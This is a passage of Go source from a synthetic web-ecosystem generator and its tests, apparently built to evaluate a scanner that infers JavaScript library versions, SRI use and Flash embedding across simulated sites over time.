			t.Errorf("site %d: Flash declared but no .swf in HTML", i)
		}
		if tr.Flash != nil && tr.Flash.Always && !strings.Contains(html, "always") {
			t.Errorf("site %d: AllowScriptAccess always missing", i)
		}
		if !tr.WordPress.IsZero() && !strings.Contains(html, "WordPress "+tr.WordPress.String()) {
			t.Errorf("site %d: WP generator meta missing", i)
		}
	}
}

func TestDeadAndAntiBotPages(t *testing.T) {
	e := testEco(t, 2000)
	foundDead, foundAntiBot, foundTransient := false, false, false
	for i := range e.Sites {
		s := e.Sites[i]
		if s.DeadFromWeek >= 0 {
			foundDead = true
			_, status := e.PageHTML(i, s.DeadFromWeek)
			if status != 0 {
				t.Errorf("dead site %d returned status %d", i, status)
			}
		}
		if s.AntiBot && s.DeadFromWeek != 0 {
			tr := e.Truth(i, 0)
			if tr.Status == 200 && tr.EmptyPage {
				foundAntiBot = true
				html, _ := e.PageHTML(i, 0)
				if len(html) >= 400 {
					t.Errorf("anti-bot page %d bytes, want < 400", len(html))
				}
			}
		}
		tr := e.Truth(i, 5)
		if tr.Status >= 400 || tr.Status == 500 || tr.Status == 503 {
			foundTransient = true
		}
	}
	if !foundDead || !foundAntiBot || !foundTransient {
		t.Errorf("expected dead/antibot/transient sites: %v %v %v",
			foundDead, foundAntiBot, foundTransient)
	}
}

func TestJQueryCookieMigration(t *testing.T) {
	e := testEco(t, 20000)
	migrated := 0
	for i := range e.Sites {
		for _, use := range e.Sites[i].Libs {
			if use.Slug == "jquery-cookie" && use.SwitchTo == "js-cookie" {
				migrated++
				// After the drop week the truth must show js-cookie.
				if use.DropWeek < e.Cfg.Weeks {
					tr := e.Truth(i, use.DropWeek)
					if tr.Accessible {
						if _, ok := tr.Lib("js-cookie"); !ok {
							t.Errorf("site %d: migration at week %d did not surface js-cookie", i, use.DropWeek)
						}
						if _, ok := tr.Lib("jquery-cookie"); ok {
							t.Errorf("site %d: jquery-cookie still present after migration", i)
						}
					}
				}
			}
		}
	}
	if migrated == 0 {
		t.Error("no jquery-cookie → js-cookie migrations generated")
	}
}

func TestSRIScarcity(t *testing.T) {
	e := testEco(t, 8000)
	sitesWithExt, sitesAllSRI := 0, 0
	for i := range e.Sites {
		tr := e.Truth(i, 0)
		if !tr.Accessible {
			continue
		}
		ext, missing := 0, 0
		for _, l := range tr.Libs {
			if l.External {
				ext++
				if !l.SRI {
					missing++
				}
			}
		}
		if ext > 0 {
			sitesWithExt++
			if missing == 0 {
				sitesAllSRI++
			}
		}
	}
	if sitesWithExt == 0 {
		t.Fatal("no sites with external libraries")
	}
	// 99.7 % of sites have ≥1 external library without integrity.
	frac := 1 - float64(sitesAllSRI)/float64(sitesWithExt)
	if frac < 0.95 {
		t.Errorf("missing-SRI site fraction = %.3f, want ≥ 0.95 (~0.997)", frac)
	}
}
