package webgen

import (
	"math/rand"
	"time"

	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// LibObservation is the ground-truth fact "this page included this library
// at this version" for one snapshot week.
type LibObservation struct {
	Slug        string
	Version     semver.Version
	External    bool
	Host        string
	SRI         bool
	Crossorigin string
}

// FlashObservation is the ground-truth Flash embedding state of a page.
type FlashObservation struct {
	ScriptAccessParam bool
	Always            bool
	ViaSWFObject      bool
	// Visible marks Flash that actually renders; invisible embeds are
	// positioned off-page (7 of the paper's 13 top-10K cases).
	Visible bool
}

// PageTruth is everything the generator knows about a (site, week) page.
type PageTruth struct {
	Week       int
	Accessible bool
	// Status is the HTTP status the site answers with; 0 means the domain
	// does not resolve at all (dead).
	Status int
	// EmptyPage marks anti-bot "Not allowed" responses (HTTP 200 but under
	// the paper's 400-byte threshold).
	EmptyPage bool
	// WordPress is the platform version (zero when the site is not WP).
	WordPress semver.Version
	// Bundled marks pages whose top-15 libraries ship concatenated in one
	// bundle.<contenthash>.js instead of individual script tags; their
	// Libs are internalized (the bundle vendors every dependency, so
	// External/Host/SRI no longer apply). Tail libraries and app scripts
	// keep their own tags even on bundled pages.
	Bundled bool
	Libs    []LibObservation
	Tail    []TailLib
	Flash   *FlashObservation
	HasJS   bool
	UsesCSS, UsesFavicon, UsesImportedHTML,
	UsesXML, UsesSVG, UsesAXD bool
}

// Lib returns the observation for a library slug, if present.
func (p PageTruth) Lib(slug string) (LibObservation, bool) {
	for _, l := range p.Libs {
		if l.Slug == slug {
			return l, true
		}
	}
	return LibObservation{}, false
}

// Truth resolves the ground-truth page state of site index i at week w.
func (e *Ecosystem) Truth(i, week int) PageTruth {
	return e.Sites[i].truth(week)
}

func (s *Site) truth(week int) PageTruth {
	t := PageTruth{Week: week}
	date := WeekDate(week)

	// Accessibility.
	if s.DeadFromWeek >= 0 && week >= s.DeadFromWeek {
		return t // Status 0: gone
	}
	if failRoll(s.seed, week) < s.TransientFailP {
		t.Status = transientStatus(s.seed, week)
		return t
	}
	t.Status = 200
	if s.AntiBot {
		t.EmptyPage = true
		return t
	}
	t.Accessible = true

	t.UsesCSS, t.UsesFavicon = s.UsesCSS, s.UsesFavicon
	t.UsesImportedHTML, t.UsesXML = s.UsesImportedHTML, s.UsesXML
	t.UsesSVG, t.UsesAXD = s.UsesSVG, s.UsesAXD

	if s.Static {
		return t
	}

	var wpRel vulndb.WPRelease
	if s.WordPress {
		wpRel = s.wpReleaseAt(date)
		t.WordPress = wpRel.Version
	}

	for _, use := range s.Libs {
		obs, ok := s.libObservationAt(use, week, date, wpRel)
		if !ok {
			continue
		}
		t.Libs = append(t.Libs, obs)
	}
	if s.Bundle.Enabled && len(t.Libs) > 0 {
		t.Bundled = true
		for i := range t.Libs {
			t.Libs[i].External = false
			t.Libs[i].Host = ""
			t.Libs[i].SRI = false
			t.Libs[i].Crossorigin = ""
		}
	}
	t.Tail = s.Tail
	// Imported-HTML loaders are script tags, so they count as JavaScript
	// presence just as they did to Wappalyzer.
	t.HasJS = s.CustomJS || len(t.Libs) > 0 || len(t.Tail) > 0 || s.UsesImportedHTML

	if s.Flash != nil && (s.Flash.DropWeek < 0 || week < s.Flash.DropWeek) {
		t.Flash = &FlashObservation{
			ScriptAccessParam: s.Flash.ScriptAccessParam,
			Always:            s.Flash.Always,
			ViaSWFObject:      s.Flash.ViaSWFObject,
			Visible:           s.Flash.Visible,
		}
	}
	return t
}

// libObservationAt resolves one library use at a week; ok is false when the
// library is not on the page that week.
func (s *Site) libObservationAt(use LibUse, week int, date time.Time, wpRel vulndb.WPRelease) (LibObservation, bool) {
	if week < use.AdoptWeek {
		return LibObservation{}, false
	}
	if use.DropWeek >= 0 && week >= use.DropWeek {
		// Migration: a dropped library may be replaced by its successor,
		// adopted at the then-latest version and frozen there.
		if use.SwitchTo == "" {
			return LibObservation{}, false
		}
		cat, ok := vulndb.CatalogFor(use.SwitchTo)
		if !ok {
			return LibObservation{}, false
		}
		rel := cat.LatestAsOf(WeekDate(use.DropWeek))
		if rel.Version.IsZero() {
			return LibObservation{}, false
		}
		return LibObservation{
			Slug: use.SwitchTo, Version: rel.Version,
			External: use.External, Host: use.Host,
			SRI: use.SRI, Crossorigin: use.Crossorigin,
		}, true
	}

	obs := LibObservation{
		Slug: use.Slug, External: use.External, Host: use.Host,
		SRI: use.SRI, Crossorigin: use.Crossorigin,
	}

	if use.ManagedByWP {
		// WordPress-bundled jQuery / jQuery-Migrate: version (and, for
		// Migrate, presence) follow the site's current WordPress release.
		if wpRel.Version.IsZero() {
			return LibObservation{}, false
		}
		switch use.Slug {
		case "jquery":
			obs.Version = wpRel.JQuery
		case "jquery-migrate":
			if wpRel.Migrate.IsZero() || !s.WPHasMigrate {
				return LibObservation{}, false
			}
			obs.Version = wpRel.Migrate
		default:
			obs.Version = use.Initial
		}
		return obs, true
	}

	obs.Version = libVersionAt(use, date)
	return obs, true
}

// Regression window shape: a regressing site reverts its first in-study
// update regressionOnset days after adopting it and stays on the previous
// version for regressionSpan days before re-updating for good.
const (
	regressionOnset = 14
	regressionSpan  = 56
)

// libVersionAt resolves the version a (non-WP-managed) library use shows at
// a date: frozen uses stay at Initial; manual/auto uses adopt each release
// DelayDays after it ships, optionally pinned to their initial major line,
// and never downgrade — except regressing sites, which roll their first
// in-study update back for a spell (Section 9's future-work behaviour).
func libVersionAt(use LibUse, date time.Time) semver.Version {
	if use.Policy == PolicyFrozen {
		return use.Initial
	}
	if use.Regress {
		if inWindow, prev := regressionState(use, date); inWindow {
			return prev
		}
	}
	return trajectoryVersion(use, date)
}

// trajectoryVersion is the monotone adopt-with-delay trajectory.
func trajectoryVersion(use LibUse, date time.Time) semver.Version {
	cat, ok := vulndb.CatalogFor(use.Slug)
	if !ok {
		return use.Initial
	}
	cutoff := date.AddDate(0, 0, -use.DelayDays)
	best := use.Initial
	for _, rel := range cat.Releases {
		if rel.Date.After(cutoff) {
			continue
		}
		if use.MajorPinned && rel.Version.Major() != use.Initial.Major() {
			continue
		}
		if best.Less(rel.Version) {
			best = rel.Version
		}
	}
	return best
}

// regressionState reports whether date falls inside the use's roll-back
// window, and the version the site reverts to.
func regressionState(use LibUse, date time.Time) (bool, semver.Version) {
	cat, ok := vulndb.CatalogFor(use.Slug)
	if !ok {
		return false, semver.Version{}
	}
	// The first in-study update is the earliest adoption instant
	// (release date + delay) after the study start that actually raises
	// the shown version above what the site had the instant before.
	var firstUpdate time.Time
	for _, rel := range cat.Releases {
		if use.MajorPinned && rel.Version.Major() != use.Initial.Major() {
			continue
		}
		adoption := rel.Date.AddDate(0, 0, use.DelayDays)
		if !adoption.After(studyStart) {
			continue
		}
		before := trajectoryVersion(use, adoption.AddDate(0, 0, -1))
		if !before.Less(rel.Version) {
			continue
		}
		if firstUpdate.IsZero() || adoption.Before(firstUpdate) {
			firstUpdate = adoption
		}
	}
	if firstUpdate.IsZero() {
		return false, semver.Version{}
	}
	from := firstUpdate.AddDate(0, 0, regressionOnset)
	to := from.AddDate(0, 0, regressionSpan)
	if date.Before(from) || !date.Before(to) {
		return false, semver.Version{}
	}
	return true, trajectoryVersion(use, firstUpdate.AddDate(0, 0, -1))
}

// wpReleaseAt resolves the site's WordPress release at a date.
func (s *Site) wpReleaseAt(date time.Time) vulndb.WPRelease {
	initRel, _ := vulndb.WordPressFind(s.WPInitial)
	if s.WPPolicy == PolicyFrozen {
		return initRel
	}
	cutoff := date.AddDate(0, 0, -s.WPDelayDays)
	best := initRel
	for _, rel := range vulndb.WordPressReleases() {
		if rel.Date.After(cutoff) {
			continue
		}
		if best.Version.Less(rel.Version) {
			best = rel
		}
	}
	return best
}

// failRoll returns a deterministic uniform [0,1) for (site, week).
func failRoll(seed int64, week int) float64 {
	r := rand.New(rand.NewSource(mix(seed, int64(week), 0x7fa11)))
	return r.Float64()
}

// transientStatus picks the failure mode of a flaky week.
func transientStatus(seed int64, week int) int {
	r := rand.New(rand.NewSource(mix(seed, int64(week), 0x57a7)))
	switch r.Intn(4) {
	case 0:
		return 403
	case 1:
		return 404
	case 2:
		return 500
	default:
		return 503
	}
}
