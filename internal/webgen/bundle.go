package webgen

// Seed-driven bundler mode. Real deployments increasingly ship one
// webpack/rollup artifact that concatenates every dependency, renames the
// identifiers, and (sometimes) strips the license banners — exactly the
// inclusion shape that is invisible to URL-based version inference. This
// file models that: a bundling site replaces its individual top-15
// library <script src> tags with a single bundle.<contenthash>.js whose
// body concatenates a deterministic synthetic source artifact per
// (library, release). The synthetic sources carry the same class of
// version discriminators real libraries do — a version property
// assignment that survives minification, and a /*! ... */ banner that
// survives only when the bundler keeps comments — so the content-signature
// scanner in internal/fingerprint has exactly the evidence a real one has,
// and nothing more.
//
// Determinism: every byte of a bundle derives from (library slug, release
// version, bundle profile, site seed). The profile itself is drawn from a
// dedicated derived RNG stream, never from the site's main profile stream,
// so enabling bundling does not perturb a single draw of the existing
// generator — plain-mode ecosystems stay byte-identical (pinned by the
// golden-hash regression test).

import (
	"fmt"
	"math/rand"
	"strings"

	"clientres/internal/semver"
)

// Bundling parameterizes the bundler mode of an ecosystem.
type Bundling struct {
	// Fraction of eligible sites (non-static, non-WordPress, with at
	// least one top-15 library) that ship a bundle instead of individual
	// script tags. 0 disables bundling entirely.
	Fraction float64
	// MinifyP is the probability a bundling site minifies identifiers
	// and collapses whitespace.
	MinifyP float64
	// BannerP is the probability the bundler keeps the per-library
	// /*! ... */ license banners (terser's "comments: /^!/" default).
	BannerP float64
	// SourceMapP is the probability the bundle carries a trailing
	// //# sourceMappingURL= comment.
	SourceMapP float64
}

// DefaultBundling returns the bundler knobs used by the commands when only
// a fraction is given: a majority of real bundles are minified, about half
// keep license banners, and a third ship a source-map pointer.
func DefaultBundling(fraction float64) Bundling {
	return Bundling{Fraction: fraction, MinifyP: 0.6, BannerP: 0.5, SourceMapP: 0.35}
}

// BundleProfile is one site's drawn bundler behaviour.
type BundleProfile struct {
	// Enabled marks the site as shipping a bundle.
	Enabled bool
	// Minify renames identifiers and collapses whitespace.
	Minify bool
	// Banner keeps the per-library license banners.
	Banner bool
	// SourceMap appends a //# sourceMappingURL= trailer.
	SourceMap bool
}

// genBundle draws the site's bundle profile from a dedicated derived RNG so
// the draw sequence of every other site property is untouched.
func (s *Site) genBundle(cfg Config) {
	b := cfg.Bundling
	if b.Fraction <= 0 || s.Static || s.WordPress || len(s.Libs) == 0 {
		return
	}
	rng := rand.New(rand.NewSource(mix(s.seed, 0xb0d1e5)))
	if rng.Float64() >= b.Fraction {
		return
	}
	s.Bundle.Enabled = true
	s.Bundle.Minify = rng.Float64() < b.MinifyP
	s.Bundle.Banner = rng.Float64() < b.BannerP
	s.Bundle.SourceMap = rng.Float64() < b.SourceMapP
}

// bundleInfo assembles the week's bundle for a site: name (with content
// hash) and full body. Called only when t.Bundled.
func bundleInfo(s *Site, t PageTruth) (name, body string) {
	b := new(strings.Builder)
	b.Grow(8192)
	for _, lib := range t.Libs {
		if s.Bundle.Banner {
			b.WriteString(libraryBanner(lib.Slug, lib.Version))
			b.WriteByte('\n')
		}
		b.WriteString(librarySource(lib.Slug, lib.Version, s.Bundle.Minify))
		b.WriteByte('\n')
	}
	// Site-specific app module: real bundles mix first-party code in with
	// the vendored dependencies, and it is what makes two sites with the
	// same dependency set ship different artifacts.
	fmt.Fprintf(b, "var __app={site:%q,build:\"%x\"};__app.boot=function(){return __app.site.length};\n",
		s.Domain.Name, uint64(mix(s.seed, 0xa99b00)))
	modules := b.String()

	name = fmt.Sprintf("bundle.%016x.js", contentHash(modules))
	out := new(strings.Builder)
	out.Grow(len(modules) + 128)
	out.WriteString("!function(){\"use strict\";\n")
	out.WriteString(modules)
	out.WriteString("}();\n")
	if s.Bundle.SourceMap {
		fmt.Fprintf(out, "//# sourceMappingURL=%s.map\n", name)
	}
	return name, out.String()
}

// contentHash is FNV-1a 64 — the bundle's stand-in for webpack's
// [contenthash].
func contentHash(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return h
}

// displayNames are the banner names of the top-15 libraries, as their real
// release banners spell them.
var displayNames = map[string]string{
	"jquery":         "jQuery",
	"jquery-ui":      "jQuery UI",
	"jquery-migrate": "jQuery Migrate",
	"jquery-cookie":  "jQuery Cookie Plugin",
	"js-cookie":      "JavaScript Cookie",
	"bootstrap":      "Bootstrap",
	"modernizr":      "Modernizr",
	"underscore":     "Underscore.js",
	"isotope":        "Isotope",
	"popper":         "Popper.js",
	"moment":         "Moment.js",
	"requirejs":      "RequireJS",
	"swfobject":      "SWFObject",
	"prototype":      "Prototype",
	"polyfill":       "Polyfill",
}

// libraryBanner renders the /*! ... */ license banner of one release.
func libraryBanner(slug string, ver semver.Version) string {
	name := displayNames[slug]
	if name == "" {
		name = slug
	}
	return fmt.Sprintf("/*! %s v%s | (c) the %s contributors | released under the MIT license */",
		name, ver, slug)
}

// codeIdioms is the version-bearing statement each library's source carries,
// modeled on the real artifacts: jQuery's support object, Bootstrap's
// plugin VERSION constant, Underscore's _.VERSION export, and so on. These
// are string/property constructs, so minification preserves them — which is
// precisely why content-signature fingerprinting works on minified bundles.
// swfobject and jquery-cookie deliberately have no code idiom: their real
// sources carry the version only in the banner comment, making them the
// measured casualty of banner-stripping bundlers.
var codeIdioms = map[string]string{
	"jquery":         `var support={jquery:"%s",expando:"jq"+Math.random()};`,
	"jquery-ui":      `var ui=window.ui||{};ui.version="%s";`,
	"jquery-migrate": `jQuery.migrateVersion="%s";`,
	"bootstrap":      `var Util={TRANSITION_END:"bsTransitionEnd",VERSION:"%s"};`,
	"modernizr":      `var Modernizr={_version:"%s",_config:{classPrefix:""}};`,
	"underscore":     `_.VERSION="%s";`,
	"isotope":        `var Isotope=window.Isotope||{};Isotope.version="%s";`,
	"popper":         `var Popper=function(r,e){this.reference=r;this.popper=e};Popper.version="%s";`,
	"moment":         `var hooks=function(){return null};hooks.version="%s";`,
	"js-cookie":      `var Cookies=function(c){return c};Cookies.version="%s";`,
	"requirejs":      `var req=function(d){return d};req.version="%s";`,
	"prototype":      `var Prototype={Version:"%s",emptyFunction:function(){}};`,
	"polyfill":       `var polyfill={};polyfill.version="%s";`,
}

// librarySource renders the deterministic synthetic JavaScript artifact of
// one (library, release): the version-bearing idiom plus seeded filler
// functions. minify selects short identifiers and collapsed whitespace; it
// never touches the idiom, just as real minifiers preserve string literals
// and property names.
func librarySource(slug string, ver semver.Version, minify bool) string {
	v := ver.String()
	idiom := ""
	if f, ok := codeIdioms[slug]; ok {
		idiom = fmt.Sprintf(f, v)
	}
	rng := rand.New(rand.NewSource(mix(contentSeed(slug), contentSeed(v))))
	nf := 3 + rng.Intn(5)
	type filler struct{ mul, mod, init int }
	fills := make([]filler, nf)
	for i := range fills {
		fills[i] = filler{mul: 3 + rng.Intn(97), mod: 5 + rng.Intn(251), init: rng.Intn(1000)}
	}

	b := new(strings.Builder)
	if minify {
		b.WriteString("!function(){")
		b.WriteString(idiom)
		for i, f := range fills {
			fmt.Fprintf(b, "var %s=%d;function %s(t,n){return(t*%d+n+%s)%%%d}",
				minIdent(2*i), f.init, minIdent(2*i+1), f.mul, minIdent(2*i), f.mod)
		}
		b.WriteString("}();")
		return b.String()
	}
	b.WriteString("(function () {\n  \"use strict\";\n")
	if idiom != "" {
		fmt.Fprintf(b, "  %s\n", idiom)
	}
	for i, f := range fills {
		fmt.Fprintf(b, "  var %s = %d;\n", longIdent(slug, 2*i), f.init)
		fmt.Fprintf(b, "  function %s(value, shift) {\n    return (value * %d + shift + %s) %% %d;\n  }\n",
			longIdent(slug, 2*i+1), f.mul, longIdent(slug, 2*i), f.mod)
	}
	b.WriteString("})();")
	return b.String()
}

// minIdent yields the i-th short identifier of a minified scope (a, b, ...,
// z, a0, a1, ...).
func minIdent(i int) string {
	if i < 26 {
		return string(rune('a' + i))
	}
	return "a" + itoa(i-26)
}

// longIdent yields a readable identifier for unminified sources.
func longIdent(slug string, i int) string {
	return "_" + strings.ReplaceAll(slug, "-", "_") + "Helper" + itoa(i)
}

// contentSeed folds a string into a seed value for the filler RNG.
func contentSeed(s string) int64 { return int64(contentHash(s)) }

// LibraryJS renders the standalone minified artifact a site serves for one
// internally-hosted library — the body behind /assets/js/jquery-1.12.4.min.js
// and friends. Shipped .min.js files keep their /*! banner (minifiers
// preserve bang-comments by default), so both the banner and the code idiom
// are present.
func LibraryJS(slug string, ver semver.Version) string {
	return libraryBanner(slug, ver) + "\n" + librarySource(slug, ver, true)
}

// tailLibJS renders the artifact of a long-tail library. Tail libraries are
// outside the signature database, so their bodies carry a banner the
// scanner has no anchor for — they exercise the no-false-positive side.
func tailLibJS(tl TailLib) string {
	return fmt.Sprintf("/*! %s v%s */\n!function(){var t=%q;window[t.replace(/-/g,\"_\")]={version:%q}}();",
		tl.Name, tl.Version, tl.Name, tl.Version)
}

// appJS renders a site's first-party /js/app.js.
func appJS(s *Site) string {
	return fmt.Sprintf("window.__site={name:%q,ready:function(){return 1<2}};", s.Domain.Name)
}

// AssetJS resolves a same-site script path of site i at a snapshot week to
// its JavaScript body — the web server's source for every src the rendered
// page references. The path must be query-stripped-comparable ("?v=..."
// cache busters are ignored). ok is false for unknown paths, inaccessible
// weeks, and pages that do not reference the asset.
func (e *Ecosystem) AssetJS(i, week int, path string) (string, bool) {
	if q := strings.IndexByte(path, '?'); q >= 0 {
		path = path[:q]
	}
	s := e.Sites[i]
	t := s.truth(week)
	if !t.Accessible {
		return "", false
	}
	if t.Bundled {
		name, body := bundleInfo(s, t)
		if path == "/assets/"+name {
			return body, true
		}
	} else {
		style := siteURLStyle(s)
		for _, lib := range t.Libs {
			if lib.External {
				continue
			}
			src := libSrc(lib, t.WordPress, style)
			if q := strings.IndexByte(src, '?'); q >= 0 {
				src = src[:q]
			}
			if src == path {
				return LibraryJS(lib.Slug, lib.Version), true
			}
		}
	}
	for _, tl := range t.Tail {
		if path == "/vendor/"+tl.Name+"/"+tl.Version+"/"+tl.Name+".min.js" {
			return tailLibJS(tl), true
		}
	}
	if s.CustomJS && path == "/js/app.js" {
		return appJS(s), true
	}
	// Non-library helper scripts some pages reference: the imported-HTML
	// loader and the ASP.NET WebResource handler. Their bodies carry no
	// library evidence — they exercise the scanner's nothing-to-find path.
	if t.UsesImportedHTML && path == "/render/loader.php" {
		return "document.write('<link rel=\"import\" href=\"/partials/nav.html\">');", true
	}
	if t.UsesAXD && path == "/WebResource.axd" {
		return "/* WebResource composite */;", true
	}
	return "", false
}
