package webgen

import (
	"math"
	"math/rand"

	"clientres/internal/alexa"
	"clientres/internal/cdn"
	"clientres/internal/semver"
	"clientres/internal/vulndb"
)

// UpdatePolicy describes how a site (or one of its libraries) reacts to new
// releases. The mixture of these policies is what produces the paper's
// update-delay findings.
type UpdatePolicy int

// Update policies.
const (
	// PolicyFrozen never updates: the version observed at adoption stays
	// for the whole study (the dominant-old-version mass of Section 6.3).
	PolicyFrozen UpdatePolicy = iota
	// PolicyManual adopts each new release a site-specific delay (roughly
	// log-normal, mean ≈ 1.5 years) after it ships.
	PolicyManual
	// PolicyAuto tracks releases within weeks (WordPress auto-update).
	PolicyAuto
)

func (p UpdatePolicy) String() string {
	switch p {
	case PolicyFrozen:
		return "frozen"
	case PolicyManual:
		return "manual"
	case PolicyAuto:
		return "auto"
	}
	return "?"
}

// LibUse is one library included by a site.
type LibUse struct {
	// Slug identifies the library ("jquery").
	Slug string
	// Initial is the version in use at adoption time.
	Initial semver.Version
	// Policy governs version movement.
	Policy UpdatePolicy
	// DelayDays is the manual-policy adoption lag behind each release.
	DelayDays int
	// MajorPinned restricts updates to the initial version's major line
	// (the backward-compatibility freeze of Section 6.3).
	MajorPinned bool
	// Regress marks manual updaters that roll back their first in-study
	// update after a couple of weeks (compatibility fallout) and stay on
	// the old version for a spell before re-updating — the regression
	// behaviour the paper names as future work (Section 9).
	Regress bool
	// ManagedByWP makes the version follow the WordPress bundled version
	// (jquery / jquery-migrate on WordPress sites).
	ManagedByWP bool
	// AdoptWeek is the snapshot week the site starts including the library
	// (0 = from the study start). DropWeek is the week it stops (-1 =
	// never). SwitchTo names the library adopted at DropWeek, if any
	// (jquery-cookie → js-cookie migration).
	AdoptWeek, DropWeek int
	SwitchTo            string
	// External marks remote inclusion; Host is the serving host then.
	External bool
	Host     string
	// SRI marks an integrity attribute; Crossorigin holds the crossorigin
	// attribute value ("" = absent).
	SRI         bool
	Crossorigin string
}

// FlashUse describes a site's Adobe Flash embedding.
type FlashUse struct {
	// DropWeek is the week the site removes Flash (-1 = keeps it past the
	// end of the study).
	DropWeek int
	// ScriptAccessParam marks an explicit AllowScriptAccess parameter;
	// Always marks the insecure "always" option.
	ScriptAccessParam bool
	Always            bool
	// Visible marks Flash content that actually renders (vs. leftovers
	// positioned off-page — the Section 8 invisible cases).
	Visible bool
	// ViaSWFObject marks embedding through the SWFObject library.
	ViaSWFObject bool
}

// Site is one generated website profile.
type Site struct {
	Domain alexa.Domain
	seed   int64

	// Static (no JavaScript at all) sites exist so that aggregate JS usage
	// matches Figure 2b.
	Static bool

	// WordPress platform state.
	WordPress    bool
	WPInitial    semver.Version
	WPPolicy     UpdatePolicy
	WPDelayDays  int
	WPHasMigrate bool // theme renders the bundled jQuery-Migrate

	// DeadFromWeek is the week the domain disappears (-1 = alive).
	DeadFromWeek int
	// TransientFailP is the per-week probability of a transient 4xx/5xx.
	TransientFailP float64
	// AntiBot sites answer HTTP 200 with a short "Not allowed" page.
	AntiBot bool

	// Resource-type flags (Figure 2b).
	UsesCSS, UsesFavicon, UsesImportedHTML, UsesXML, UsesSVG, UsesAXD bool
	// CustomJS marks a site-specific inline/app script.
	CustomJS bool

	Libs  []LibUse
	Tail  []TailLib
	Flash *FlashUse

	// Bundle is the site's bundler behaviour (zero = plain script tags).
	Bundle BundleProfile
}

// TailLib is a long-tail library beyond the top 15 (no CVE analysis, but
// they exercise generic detection and make the "79 distinct libraries"
// landscape of Section 5).
type TailLib struct {
	Name    string
	Version string
}

// libCalib carries the per-library calibration derived from Table 1.
type libCalib struct {
	slug string
	// usage is the fraction of ALL sites including the library on average.
	usage float64
	// external is the fraction of inclusions that are remote.
	external float64
	// cdnShare is the CDN fraction among remote inclusions.
	cdnShare float64
	// adoptDuring / dropDuring are the fractions of using sites that adopt
	// after the study starts or drop before it ends (usage trends, Fig 3).
	adoptDuring, dropDuring float64
	// frozen/manual/auto are the policy mixture weights.
	frozen, manual, auto float64
	// majorPin is the probability a manual updater pins its major line.
	majorPin float64
	// initial is the adoption-version weight table at the study start;
	// spreadWeight is distributed uniformly over all other pre-study
	// versions.
	initial      []versionWeight
	spreadWeight int
}

type versionWeight struct {
	v string
	w int
}

// calib is the Table 1 / Table 5 calibration. Ordering matters only for
// readability.
var calib = []libCalib{
	{
		// external is the non-WordPress-managed share; combined with the
		// WP-managed inclusions (mostly internal, partly wp.com-served)
		// the overall external share lands at the paper's 40.8 %.
		slug: "jquery", usage: 0.640, external: 0.50, cdnShare: 0.961,
		adoptDuring: 0.03, dropDuring: 0.07,
		frozen: 0.52, manual: 0.38, auto: 0.10, majorPin: 0.65,
		initial: []versionWeight{
			{"1.12.4", 20}, {"3.3.1", 12}, {"3.2.1", 7}, {"3.1.1", 5},
			{"3.0.0", 3}, {"2.2.4", 4}, {"2.1.4", 2}, {"1.11.3", 4},
			{"1.11.1", 3}, {"1.10.2", 3}, {"1.9.1", 3}, {"1.8.3", 3},
			{"1.7.2", 2}, {"1.7.1", 2}, {"1.6.2", 1}, {"1.4.2", 1},
			{"1.12.0", 2},
		},
		spreadWeight: 12,
	},
	{
		// A large share of Bootstrap sites adopted during the study on the
		// then-current 4.x line — that is how the paper's Table 2 can show
		// only ~28 % of Bootstrap sites on < 4.1.2 while 3.3.7 is still
		// the single dominant version.
		slug: "bootstrap", usage: 0.215, external: 0.284, cdnShare: 0.707,
		adoptDuring: 0.16, dropDuring: 0.06,
		frozen: 0.55, manual: 0.33, auto: 0.12, majorPin: 0.60,
		initial: []versionWeight{
			{"3.3.7", 24}, {"3.3.6", 4}, {"3.3.5", 3}, {"4.0.0", 10},
			{"3.1.1", 2}, {"3.2.0", 2}, {"3.0.3", 2}, {"2.3.2", 2},
		},
		spreadWeight: 10,
	},
	{
		// jQuery-Migrate outside WordPress; the WordPress-bundled copies
		// are generated separately per WP site.
		slug: "jquery-migrate", usage: 0.020, external: 0.116, cdnShare: 0.426,
		adoptDuring: 0.02, dropDuring: 0.05,
		frozen: 0.70, manual: 0.25, auto: 0.05, majorPin: 0.50,
		initial: []versionWeight{
			{"1.4.1", 55}, {"1.2.1", 10}, {"3.0.0", 6}, {"3.0.1", 4}, {"1.0.0", 4},
		},
		spreadWeight: 6,
	},
	{
		slug: "jquery-ui", usage: 0.122, external: 0.503, cdnShare: 0.919,
		adoptDuring: 0.02, dropDuring: 0.08,
		frozen: 0.62, manual: 0.30, auto: 0.08, majorPin: 0.20,
		initial: []versionWeight{
			{"1.12.1", 15}, {"1.11.4", 10}, {"1.10.4", 6}, {"1.10.3", 5},
			{"1.9.2", 4}, {"1.8.24", 3}, {"1.12.0", 3},
		},
		spreadWeight: 10,
	},
	{
		slug: "modernizr", usage: 0.095, external: 0.219, cdnShare: 0.682,
		adoptDuring: 0.02, dropDuring: 0.10,
		frozen: 0.70, manual: 0.25, auto: 0.05, majorPin: 0.40,
		initial: []versionWeight{
			{"2.6.2", 16}, {"2.8.3", 10}, {"2.7.1", 4}, {"3.5.0", 5},
			{"3.6.0", 5}, {"2.8.1", 2},
		},
		spreadWeight: 8,
	},
	{
		slug: "js-cookie", usage: 0.033, external: 0.195, cdnShare: 0.865,
		adoptDuring: 0.35, dropDuring: 0.02,
		frozen: 0.75, manual: 0.20, auto: 0.05, majorPin: 0.30,
		initial: []versionWeight{
			{"2.1.4", 80}, {"2.2.0", 8}, {"2.1.3", 4}, {"2.0.4", 2},
		},
		spreadWeight: 4,
	},
	{
		slug: "underscore", usage: 0.025, external: 0.168, cdnShare: 0.497,
		adoptDuring: 0.30, dropDuring: 0.03,
		frozen: 0.55, manual: 0.35, auto: 0.10, majorPin: 0.10,
		initial: []versionWeight{
			{"1.8.3", 12}, {"1.8.2", 4}, {"1.7.0", 4}, {"1.6.0", 3},
			{"1.5.2", 3}, {"1.4.4", 3},
		},
		spreadWeight: 25,
	},
	{
		slug: "isotope", usage: 0.018, external: 0.092, cdnShare: 0.246,
		adoptDuring: 0.06, dropDuring: 0.05,
		frozen: 0.65, manual: 0.28, auto: 0.07, majorPin: 0.30,
		initial: []versionWeight{
			{"3.0.4", 17}, {"3.0.5", 8}, {"2.2.2", 6}, {"3.0.2", 4}, {"2.0.0", 3},
		},
		spreadWeight: 10,
	},
	{
		slug: "popper", usage: 0.017, external: 0.531, cdnShare: 0.920,
		adoptDuring: 0.50, dropDuring: 0.03,
